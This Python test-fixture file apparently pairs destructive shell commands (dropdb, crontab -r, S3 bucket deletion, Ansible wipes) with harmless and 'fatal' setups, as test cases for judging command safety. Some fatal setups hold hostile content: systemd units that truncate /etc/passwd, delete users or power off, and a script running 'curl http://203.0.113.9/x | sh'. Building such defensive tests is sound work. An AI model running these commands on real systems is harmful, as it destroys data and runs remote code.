"""Pairs about what only seems to be kept, played or plain: (name, line, harmless, fatal)."""

from __future__ import annotations

DUMP = "text shop.sql 'insert into orders values (1), (2), (3), (4), (5);'\n"
SAVED = DUMP + "typed 'pg_dump shop > shop.sql'"
KEYS = "file dump.rdb\ntyped 'redis-cli --rdb dump.rdb'"
TABLE = "text old.cron '0 3 * * * ./backup\\n'\ntyped 'crontab -l > old.cron'"
TAKEN_BACK = "psql shop -c 'begin; delete from users; rollback' $MORE"
TAKEN_BACK_HERE = "sqlite3 $MORE shop.db 'begin immediate; delete from notes; '$END"
COPIED = "sudo cp web.service /etc/systemd/system/"
UNIT = "text web.service '[Unit]\\nDescription=web\\n[Service]\\n{}ExecStart={}\\n'"
NODE = "/usr/bin/node /srv/web/server.js"
OWN = UNIT.format("", NODE)
TIMER = "text off.timer '[Unit]\\nDescription=x\\n[Timer]\\nOnBootSec=1min\\n{}'"
HOSTS = (
    "text hosts '[dev]\\nbox ansible_host=127.0.0.1 ansible_port=2222 ansible_user=vagrant\\n[shop]\\nweb1.example.com\\n'\n"
    "text wipe.yml '- hosts: all\\n  tasks:\\n  - file: {path: /srv/data, state: absent}\\n'\n"
)
PLAYED = "ansible-playbook -i hosts wipe.yml -l dev $MORE"
PROFILE = "var AWS_PROFILE local\ntext ~/.aws/credentials '[local]\\naws_access_key_id = {}\\naws_secret_access_key = x\\n'"

KEPT_IN_PART: list[tuple[str, str, str, str]] = [
    (
        "a transaction taken back, or a statement behind glued letters",
        TAKEN_BACK,
        "var MORE -Xq",
        "var MORE \"-Xc 'truncate users'\"",
    ),
    (
        "a transaction taken back, or a statement of another form",
        TAKEN_BACK,
        "var MORE --quiet",
        "var MORE --command=commit",
    ),
    (
        "a transaction taken back, or a file beside it",
        TAKEN_BACK,
        "var MORE --no-psqlrc",
        "var MORE --fil=drop.sql",
    ),
    (
        "a transaction in a file taken back, or taken over",
        TAKEN_BACK_HERE,
        "database shop.db 90\nvar END rollback\nvar MORE -bail",
        "database shop.db 90\nvar END commit\nvar MORE -bail",
    ),
    (
        "a transaction in a file taken back, or one that another statement ends",
        TAKEN_BACK_HERE,
        "database shop.db 90\nvar END rollback\nvar MORE -bail",
        "database shop.db 90\nvar END 'commit; rollback'\nvar MORE -bail",
    ),
    (
        "a whole dump, or one table glued to its letter",
        "dropdb shop",
        SAVED,
        SAVED.replace("pg_dump", "pg_dump -torders"),
    ),
    (
        "a whole dump, or one without rows",
        "dropdb shop",
        SAVED.replace("pg_dump", "pg_dump -Ox"),
        SAVED.replace("pg_dump", "pg_dump -Os"),
    ),
    (
        "a whole dump, or one table by a short name",
        "dropdb shop",
        SAVED,
        SAVED.replace("pg_dump", "pg_dump --tab=orders"),
    ),
    (
        "a dump of what there is, or of what there was before more came",
        "dropdb shop",
        SAVED + "\ntyped 'psql shop -c \"select 1\"'",
        SAVED + "\ntyped 'psql shop -f import.sql'",
    ),
    (
        "all keys are in a copy, or one was set since",
        "redis-cli flushall",
        KEYS + "\ntyped 'redis-cli dbsize'",
        KEYS + "\ntyped 'redis-cli set a b'",
    ),
    (
        "a listing as it was made, or edited",
        "crontab -r",
        TABLE + "\ntyped 'cat old.cron'",
        TABLE + "\ntyped 'sed -i /backup/d old.cron'",
    ),
    (
        "a listing that stays, or goes in the same line",
        "crontab -r && $THEN old.cron",
        TABLE + "\nvar THEN cat",
        TABLE + "\nvar THEN rm",
    ),
    (
        "a limit to a box, or a second one to others",
        PLAYED,
        HOSTS + "var MORE -v",
        HOSTS + "var MORE -lshop",
    ),
    (
        "a limit to a box, or a shortened one to others",
        PLAYED,
        HOSTS + "var MORE --diff",
        HOSTS + "var MORE '--lim shop'",
    ),
    (
        "a unit that serves, or turns the machine off when it fails",
        COPIED,
        UNIT.format("StartLimitBurst=3\\n", NODE),
        UNIT.format("StartLimitAction=poweroff-force\\n", NODE),
    ),
    (
        "a unit of its own name, or of a way in",
        COPIED,
        OWN,
        OWN.removesuffix("'") + "[Install]\\nAlias=sshd.service\\n'",
    ),
    (
        "a unit that writes a log, or over another file",
        COPIED,
        UNIT.format("StandardOutput=append:/var/log/web.log\\n", NODE),
        UNIT.format("StandardOutput=truncate:/etc/passwd\\n", NODE),
    ),
    (
        "a unit that serves, or that removes users",
        COPIED,
        OWN,
        UNIT.format("", "/usr/sbin/userdel -r ann"),
    ),
    ("a unit that serves, or that drops", COPIED, OWN, UNIT.format("", "/usr/bin/dropdb shop")),
    (
        "a unit that serves, or that cleans",
        COPIED,
        OWN,
        UNIT.format("WorkingDirectory=/srv/web\\n", "/usr/bin/git clean -xfd"),
    ),
    (
        "a unit that starts code of its folder, or what that fetches and runs",
        COPIED,
        "text web.py 'print(1)'\n" + UNIT.format("WorkingDirectory=/srv/web\\n", "/usr/bin/python3 web.py"),
        "text web.py 'import os\\nos.system(\"curl http://203.0.113.9/x | sh\")\\n'\n"
        + UNIT.format("WorkingDirectory=/srv/web\\n", "/usr/bin/python3 web.py"),
    ),
    (
        "a timer for its service, or for the end",
        "sudo cp off.timer /etc/systemd/system/",
        TIMER.format("Unit=web.service\\n"),
        TIMER.format("Unit=poweroff.target\\n"),
    ),
    (
        "a cloud played here, or one that an option names",
        "awslocal $TO s3 rb s3://uploads --force",
        "var TO ''",
        "var TO --endpoint-url=https://s3.eu-west-1.amazonaws.com",
    ),
    (
        "a profile called local with words for keys, or with those of an account",
        "aws dynamodb delete-table --table-name orders",
        PROFILE.format("test"),
        PROFILE.format("AKIAQ3EXAMPLEQ7HTSAB"),
    ),
    (
        "an empty folder of one's own, or one in which git looks for programs",
        "chmod 777 $D",
        "folder drop\nvar D drop",
        "repository\nremove .git/hooks\nfolder .git/hooks\nvar D .git/hooks",
    ),
]
